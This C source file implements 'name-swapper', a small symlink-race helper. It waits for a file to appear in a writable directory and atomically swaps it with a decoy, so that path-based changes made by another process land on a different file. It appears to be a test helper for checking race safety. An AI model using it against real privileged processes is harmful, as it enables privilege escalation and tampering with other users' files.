/* name-swapper DIR NAME DECOY TIMEOUT_MS: an attacker who may write to DIR.
 * Waits until DIR/NAME appears, then exchanges the directory entries NAME and
 * DECOY once (renameat2 RENAME_EXCHANGE): NAME becomes what DECOY was (say a
 * symlink to someone else's file), so whoever changes NAME by path afterwards
 * changes that file. Exits 0 once swapped, 1 when NAME never appeared. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 5) {
    fprintf(stderr, "usage: name-swapper DIR NAME DECOY TIMEOUT_MS\n");
    return 2;
  }
  int dir = open(argv[1], O_PATH | O_DIRECTORY);
  if (dir < 0) return 2;
  struct timespec pause = {0, 100 * 1000};
  for (long waited_us = 0; waited_us < atol(argv[4]) * 1000L; waited_us += 100) {
    if (renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0) return 0;
    if (errno != ENOENT) {
      perror("renameat2");
      return 2;
    }
    nanosleep(&pause, NULL);
  }
  return 1;
}
